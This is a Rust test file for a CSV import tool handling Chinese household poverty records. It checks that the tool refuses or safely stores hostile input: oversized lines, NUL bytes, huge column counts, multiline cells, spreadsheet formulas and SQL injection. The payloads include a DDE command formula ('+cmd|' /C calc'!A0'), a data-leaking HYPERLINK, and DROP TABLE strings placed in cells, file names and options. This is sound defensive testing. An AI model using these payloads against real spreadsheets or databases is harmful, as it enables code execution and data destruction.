//! Hostile and broken files: a 2 GB line, NUL bytes, a header and nothing else, 10,000 columns,
//! quoted cells with line breaks, spreadsheet formulas, SQL in every cell. Each gets a clear
//! Chinese error naming the file (and line) or is imported correctly, in bounded memory, and the
//! database is left intact.

use std::io::Write;

use crate::common::*;

const HEADER: &str = "统计期,户编号,村代码,户主姓名,证件号码,家庭人口,贫困户属性,主要致贫原因,脱贫状态,脱贫年度,人均纯收入,不愁吃穿,义务教育保障,基本医疗保障,住房安全,饮水安全";
const VILLAGE: &str = "210922-T01-V01";

fn row(id: &str, name: &str) -> String {
    format!("2019-03,{id},{VILLAGE},{name},,3,一般贫困户,因病,已脱贫,2018,5000,是,是,是,是,是")
}

/// Every table of the schema, and the rows of the ones an import writes.
fn tables_and_counts(s: &Scratch) -> (Vec<String>, Vec<i64>) {
    let conn = s.open();
    let tables: Vec<String> = conn
        .prepare("SELECT type || ' ' || name FROM sqlite_schema ORDER BY 1")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap();
    let counts = [
        "region",
        "household_snapshot",
        "indicator_value",
        "import_batch",
        "history",
    ]
    .iter()
    .map(|t| scalar(&conn, &format!("SELECT count(*) FROM {t}"), []))
    .collect();
    (tables, counts)
}

/// Set in the fresh test process that `in_own_process` starts.
const OWN_PROCESS: &str = "TUOPIN_TEST_OWN_PROCESS";

/// Whether the test `name` (as the harness names it, `hostile::...`) runs here. A child's peak
/// memory as `wait4` reports it includes the peak of the process that spawned it (Linux carries
/// the old address space's high-water mark over `exec`), and this process runs every other test
/// beside it. So the first call starts this test binary again with only `name`, in a fresh small
/// process, checks that it ran and passed, and returns false; in that process it returns true.
#[cfg(target_os = "linux")]
fn in_own_process(name: &str) -> bool {
    if std::env::var_os(OWN_PROCESS).is_some_and(|v| v == name) {
        return true;
    }
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args([name, "--exact", "--nocapture", "--test-threads=1"])
        .env(OWN_PROCESS, name)
        .output()
        .unwrap();
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(out.status.success(), "{name} in its own process:\n{text}");
    assert!(text.contains("1 passed"), "{name} did not run:\n{text}");
    print!("{text}");
    false
}

/// A 2 GB line cannot be written in a test, and need not be: it is streamed through a named pipe,
/// and tuopin must give up after about 1 MiB of it, with little memory.
#[cfg(target_os = "linux")]
#[test]
fn a_two_gigabyte_line_is_refused_after_one_mebibyte_in_bounded_memory() {
    if !in_own_process(
        "hostile::a_two_gigabyte_line_is_refused_after_one_mebibyte_in_bounded_memory",
    ) {
        return;
    }
    let s = Scratch::new();
    s.init();
    let before = tables_and_counts(&s);
    let fifo = s.path("huge.csv");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());

    const TOTAL: u64 = 2 << 30;
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || {
            // Blocks until tuopin opens the pipe; ends when tuopin closes it (EPIPE).
            let mut f = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
            let mut sent = 0u64;
            if f.write_all(format!("{HEADER}\n").as_bytes()).is_err() {
                return sent;
            }
            let chunk = vec![b'a'; 1 << 16];
            while sent < TOTAL {
                if f.write_all(&chunk).is_err() {
                    break;
                }
                sent += chunk.len() as u64;
            }
            sent
        })
    };
    let child = std::process::Command::new(env!("CARGO_BIN_EXE_tuopin"))
        .arg("--db")
        .arg(s.db())
        .args(["import", "households"])
        .arg(&fifo)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id() as libc::pid_t;
    // Collect the output on other threads, then reap the child with wait4 for its peak memory.
    let mut child = child;
    let mut out_pipe = child.stdout.take().unwrap();
    let mut err_pipe = child.stderr.take().unwrap();
    let out_reader = std::thread::spawn(move || {
        let mut v = Vec::new();
        std::io::Read::read_to_end(&mut out_pipe, &mut v).unwrap();
        v
    });
    let err_reader = std::thread::spawn(move || {
        let mut v = Vec::new();
        std::io::Read::read_to_end(&mut err_pipe, &mut v).unwrap();
        v
    });
    let mut status = 0;
    let mut usage = std::mem::MaybeUninit::<libc::rusage>::zeroed();
    // SAFETY: pid is our child, not yet waited for; status and usage are valid out-pointers.
    let usage = unsafe {
        assert_eq!(libc::wait4(pid, &mut status, 0, usage.as_mut_ptr()), pid);
        usage.assume_init()
    };
    // Should tuopin not have opened the pipe, a non-blocking reader releases the writer.
    {
        use std::os::unix::fs::OpenOptionsExt;
        let _ = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(&fifo);
    }
    let sent = writer.join().unwrap();
    let stderr = String::from_utf8(err_reader.join().unwrap()).unwrap();
    let _ = out_reader.join().unwrap();
    assert!(libc::WIFEXITED(status));
    assert_eq!(libc::WEXITSTATUS(status), 1, "{stderr}");
    assert!(stderr.contains("huge.csv:2: 第 2 行超过 1 MiB"), "{stderr}");
    // Stopped reading after about 1 MiB (plus what the pipe buffers), not after 2 GB.
    assert!(sent < 8 << 20, "tuopin read {sent} bytes of the line");
    let peak_mib = usage.ru_maxrss / 1024;
    assert!(peak_mib < 64, "peak memory {peak_mib} MiB");
    println!("2 GB line: refused after {sent} bytes were sent, peak memory {peak_mib} MiB");
    assert_eq!(tables_and_counts(&s), before);
}

#[test]
fn an_unclosed_quote_does_not_swallow_the_file() {
    let s = Scratch::new();
    s.init();
    // Short lines (so the first pass accepts them) inside one quoted cell of 1.5 MiB.
    let mut text = format!("{HEADER}\n{}\n2019-03,\"H2,{VILLAGE}\n", row("H1", "甲"));
    while text.len() < 3 << 19 {
        text.push_str("x,y,z\n");
    }
    let file = s.write("unclosed.csv", text);
    s.tuopin(&["import", "households"])
        .arg(&file)
        .assert()
        .code(1)
        .stderr(predicates::str::contains(
            "unclosed.csv:3: 从第 3 行开始的一行数据超过 1 MiB",
        ))
        .stderr(predicates::str::contains("未闭合的引号"));
    let conn = s.open();
    assert_eq!(
        scalar::<i64>(&conn, "SELECT count(*) FROM household_snapshot", []),
        0
    );
}

#[test]
fn nul_bytes_header_only_and_empty_files_get_clear_errors() {
    let s = Scratch::new();
    s.init();
    let before = tables_and_counts(&s);
    // 4 MiB of NUL bytes, written sparse.
    let nul = s.path("zeros.csv");
    std::fs::File::create(&nul)
        .unwrap()
        .set_len(4 << 20)
        .unwrap();
    // A UTF-16 file, as Excel's "Unicode text" writes it.
    let mut utf16 = vec![0xff, 0xfe];
    for unit in HEADER.encode_utf16() {
        utf16.extend_from_slice(&unit.to_le_bytes());
    }
    let utf16 = s.write("unicode.txt", utf16);
    let header_only = s.write("header-only.csv", format!("\u{feff}{HEADER}\r\n\r\n"));
    let empty = s.write("empty.csv", "");
    for (kind, file, message) in [
        ("households", &nul, "zeros.csv: 文件含有 NUL 字节（偏移 0）"),
        ("indicators", &nul, "zeros.csv: 文件含有 NUL 字节（偏移 0）"),
        ("households", &utf16, "unicode.txt: 文件是 UTF-16 编码"),
        (
            "households",
            &header_only,
            "header-only.csv: 文件只有表头，没有数据行",
        ),
        ("regions", &empty, "empty.csv:1: 文件为空或缺少表头"),
    ] {
        s.tuopin(&["import", kind])
            .arg(file)
            .assert()
            .code(1)
            .stderr(predicates::str::contains(message));
    }
    assert_eq!(tables_and_counts(&s), before);
}

#[test]
fn ten_thousand_columns_are_handled() {
    let s = Scratch::new();
    s.init();
    // The contract's columns and 9,984 more: imported, the extra ones reported briefly.
    let extra: Vec<String> = (0..9_984).map(|i| format!("列{i}")).collect();
    let cells: Vec<&str> = vec!["x"; extra.len()];
    let text = format!(
        "{HEADER},{}\n{},{}\n",
        extra.join(","),
        row("H1", "甲"),
        cells.join(",")
    );
    let file = s.write("wide.csv", text);
    let out = s
        .tuopin(&["import", "households"])
        .arg(&file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("未知的列 \"列0\" 已忽略"), "{err}");
    assert!(err.contains("另有 9974 个未知的列已忽略"), "{err}");
    assert!(
        err.lines().count() <= 12,
        "{} warning lines",
        err.lines().count()
    );
    assert_eq!(
        scalar::<i64>(&s.open(), "SELECT count(*) FROM household_snapshot", []),
        1
    );

    // 10,000 columns none of which is the contract's: refused, naming what is missing.
    let junk: Vec<String> = (0..10_000).map(|i| format!("c{i}")).collect();
    let file = s.write(
        "junk.csv",
        format!("{}\n{}\n", junk.join(","), junk.join(",")),
    );
    s.tuopin(&["import", "households"])
        .arg(&file)
        .assert()
        .code(1)
        .stderr(predicates::str::contains(
            "junk.csv:1: 缺少必需的列: 统计期、户编号、村代码、家庭人口、脱贫状态、人均纯收入",
        ));
}

#[test]
fn quoted_cells_with_line_breaks_are_data_and_rows_are_counted_as_spreadsheets_do() {
    let s = Scratch::new();
    s.init();
    let text = format!(
        "{HEADER}\n{}\n{}\n{}\n",
        row("H1", "\"张\n三\""),
        row("H2", "\"李,\"\"四\"\"\r\n五\""),
        // Row 4 of the spreadsheet, line 6 of the file: its error must say row 4.
        row("H3", "王五").replace(",3,", ",三,")
    );
    let file = s.write("multiline.csv", &text);
    s.tuopin(&["import", "households"])
        .arg(&file)
        .assert()
        .code(1)
        .stderr(predicates::str::contains(
            "multiline.csv:4: [家庭人口] \"三\" 不是整数",
        ));
    // Fixed, the file imports and the cells keep their line breaks and quotes.
    let file = s.write("multiline.csv", text.replace(",三,", ",3,"));
    s.tuopin(&["import", "households"])
        .arg(&file)
        .assert()
        .success();
    let conn = s.open();
    let names: Vec<String> = conn
        .prepare("SELECT head_name FROM household_snapshot ORDER BY household_id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap();
    assert_eq!(names, ["张\n三", "李,\"四\"\r\n五", "王五"]);

    // The same in an indicator note.
    let file = s.write(
        "notes.csv",
        "统计期,区划代码,指标,值,备注\n2019-03,210922-T01-V01,hardened_road,是,\"第一行\n第二行\"\n",
    );
    s.tuopin(&["import", "indicators"])
        .arg(&file)
        .assert()
        .success();
    assert_eq!(
        scalar::<String>(
            &s.open(),
            "SELECT note FROM indicator_value WHERE batch_id IS NOT NULL",
            []
        ),
        "第一行\n第二行"
    );
}

const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "=1+1",
];

#[test]
fn formulas_are_stored_as_text_and_neutralised_when_written_as_csv() {
    let s = Scratch::new();
    s.init();
    // In a text cell a formula is just text: stored as written.
    let mut text = format!("{HEADER}\n");
    for (i, f) in FORMULAS.iter().enumerate() {
        let quoted = format!("\"{}\"", f.replace('"', "\"\""));
        text.push_str(&row(&format!("H{i}"), &quoted));
        text.push('\n');
    }
    let file = s.write("=1+1.csv", &text);
    s.tuopin(&["import", "households"])
        .arg(&file)
        .assert()
        .success();
    let conn = s.open();
    let mut stored: Vec<String> = conn
        .prepare("SELECT head_name FROM household_snapshot")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap();
    stored.sort();
    let mut want: Vec<String> = FORMULAS.iter().map(|f| f.to_string()).collect();
    want.sort();
    assert_eq!(stored, want);

    // In a number cell a formula is an error, quoted back as text.
    let bad = s.write(
        "bad.csv",
        format!(
            "{HEADER}\n{}\n",
            row("H9", "甲").replace(",5000,", ",=1+1,")
        ),
    );
    s.tuopin(&["import", "households"])
        .arg(&bad)
        .assert()
        .code(1)
        .stderr(predicates::str::contains(
            "bad.csv:2: [人均纯收入] \"=1+1\" 不是数字",
        ));

    // The file name came from the county office; written as CSV it cannot run.
    let out = s.tuopin(&["imports", "--csv"]).output().unwrap();
    assert!(out.status.success());
    let csv_text = stdout(&out);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[2].to_string())
        .collect();
    assert_eq!(names, ["'=1+1.csv"], "{csv_text}");
    for line in csv_text.lines() {
        for cell in line.split(',') {
            assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
        }
    }
}

#[test]
fn sql_in_every_cell_is_only_data() {
    let s = Scratch::new();
    s.init();
    let before = tables_and_counts(&s).0;
    let sql = "'); DROP TABLE household_snapshot;--";
    let regions = s.write(
        "r.csv",
        format!(
            "代码,名称,级别,上级代码\n210922-X1,\"{sql}\",乡镇,210922\n210922-X1-001,\"x'); DROP TABLE region;--\",村,210922-X1\n"
        ),
    );
    s.tuopin(&["import", "regions"])
        .arg(&regions)
        .assert()
        .success();
    let households = s.write(
        "o'brien'); DROP TABLE region;--.csv",
        format!(
            "{HEADER}\n{}\n{}\n",
            row(
                "\"x'); DELETE FROM import_batch;--\"",
                &format!("\"{sql}\"")
            ),
            row(
                "H2\"\"; DROP TABLE history; --",
                "\"Robert'); DROP TABLE meta;--\""
            )
            .replace(VILLAGE, "210922-X1-001")
        ),
    );
    s.tuopin(&["import", "households"])
        .arg(&households)
        .assert()
        .success();
    let notes = s.write(
        "n.csv",
        format!("统计期,区划代码,指标,值,备注\n2019-03,210922-X1-001,hardened_road,是,\"{sql}\"\n"),
    );
    s.tuopin(&["import", "indicators"])
        .arg(&notes)
        .assert()
        .success();
    // Options are parameters too.
    s.tuopin(&[
        "import",
        "households",
        "--county",
        "210922'; DROP TABLE region;--",
    ])
    .arg(&households)
    .assert()
    .code(2)
    .stderr(predicates::str::contains("不是已知的县级区划代码"));
    s.tuopin(&["import", "undo", "1; DROP TABLE region"])
        .assert()
        .code(2);

    assert_eq!(tables_and_counts(&s).0, before, "the schema changed");
    let conn = s.open();
    assert_eq!(
        scalar::<String>(
            &conn,
            "SELECT name FROM region WHERE code = '210922-X1'",
            []
        ),
        sql
    );
    assert_eq!(
        scalar::<String>(
            &conn,
            "SELECT head_name FROM household_snapshot WHERE household_id = ?1",
            ["x'); DELETE FROM import_batch;--"]
        ),
        sql
    );
    assert_eq!(
        scalar::<i64>(
            &conn,
            "SELECT count(*) FROM import_batch WHERE file_name = ?1",
            ["o'brien'); DROP TABLE region;--.csv"]
        ),
        1
    );
    assert_eq!(
        scalar::<String>(
            &conn,
            "SELECT note FROM indicator_value WHERE batch_id IS NOT NULL",
            []
        ),
        sql
    );
    s.tuopin(&["verify"]).assert().success();
    s.tuopin(&["status"]).assert().success();
    s.tuopin(&["imports", "--csv"]).assert().success();
}
